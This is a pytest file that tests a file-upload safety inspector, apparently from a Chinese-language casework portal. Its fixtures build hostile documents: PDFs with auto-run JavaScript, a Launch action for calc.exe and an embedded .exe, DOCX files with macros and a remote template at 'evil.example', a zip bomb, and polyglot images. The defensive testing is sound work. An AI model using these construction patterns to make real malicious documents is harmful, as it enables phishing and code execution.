import io
import zipfile

import pikepdf
import pytest
from docx import Document
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from PIL import Image

from portal.casework.safety import Level, inspect


def picture(kind):
    target = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(target, kind)
    return target.getvalue()


def word():
    target = io.BytesIO()
    Document().save(target)
    return target.getvalue()


def sheet():
    target = io.BytesIO()
    Workbook().save(target)
    return target.getvalue()


def pdf(change=lambda document: None):
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def with_member(data, name, content):
    target = io.BytesIO(data)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(name, content)
    return target.getvalue()


def zipped(name=b"x", content=b"x"):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name.decode(), content)
    return target.getvalue()


def texts(report):
    return " ".join(finding.text for finding in report.findings)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("照片.jpg", picture("JPEG")),
        ("照片.JPEG", picture("JPEG")),
        ("截图.png", picture("PNG")),
        ("图.webp", picture("WEBP")),
        ("证明.docx", word()),
        ("表.xlsx", sheet()),
        ("决定书.pdf", pdf()),
        ("老.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)),
        ("录音.mp3", b"ID3" + bytes(100)),
    ],
)
def test_honest_files_have_no_findings(name, data):
    report = inspect(name, data)
    assert report.matches
    assert report.findings == ()
    assert report.worst is None


def javascript(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launch(document):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])


def attachment(document):
    document.attachments["a.exe"] = b"MZ"


TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("发票.pdf", b"MZ" + bytes(500), "内容却是Windows 程序"),
        ("图.png", b"<html><script>alert(1)</script>", "内容却是网页"),
        ("证明.docx", with_member(word(), "word/vbaProject.bin", b"x"), "含有宏"),
        (
            "证明.docx",
            with_member(word(), "word/_rels/settings.xml.rels", TEMPLATE),
            "外部加载模板",
        ),
        ("证明.docx", with_member(word(), "word/embeddings/a.bin", b"x"), "嵌有其他文件"),
        (
            "老.doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Macros".encode("utf-16-le") + bytes(9),
            "宏",
        ),
        ("表.xlsx", with_member(sheet(), "xl/a.bin", b"x" * 10)[:-30], "损坏"),
        ("炸弹.docx", zipped(content=bytes(80_000_000)), "压缩炸弹"),
        ("决定书.pdf", pdf(javascript), "脚本"),
        ("决定书.pdf", pdf(javascript), "打开文档时会自动执行动作"),
        ("决定书.pdf", pdf(launch), "启动其他程序"),
        ("决定书.pdf", pdf(attachment), "内嵌1个附件"),
        ("决定书.pdf", b"%PDF-1.7 garbage", "损坏"),
        ("照片.jpg", picture("JPEG") + zipped(), "藏着一个压缩包"),
        ("决定书.pdf", pdf() + zipped(), "藏着一个压缩包"),
        ("照片.jpg", picture("JPEG") + b"<script>alert(1)</script>", "图片结束之后"),
        ("图.png", picture("PNG") + b"tail", "图片结束之后还有4字节"),
        ("资料.docx", zipped(), "内容却是ZIP 压缩包"),
    ],
)
def test_what_could_do_harm_is_said(name, data, said):
    report = inspect(name, data)
    assert said in texts(report)
    assert report.worst in (Level.DANGER, Level.CAUTION)


@given(data=st.binary(max_size=400), prefix=st.sampled_from([b"", b"PK\x03\x04", b"%PDF-1.4\n"]))
def test_any_bytes_get_a_report(data, prefix):
    assert inspect("文件.pdf", prefix + data).real_type


@given(cut=st.integers(0, 2000), flip=st.integers(0, 2000))
def test_damaged_documents_get_a_report(cut, flip):
    for name, whole in (("a.docx", _WORD), ("a.pdf", _PDF)):
        data = bytearray(whole[: max(len(whole) - cut, 1)])
        data[flip % len(data)] ^= 0xFF
        assert inspect(name, bytes(data)).real_type


_WORD, _PDF = word(), pdf(javascript)
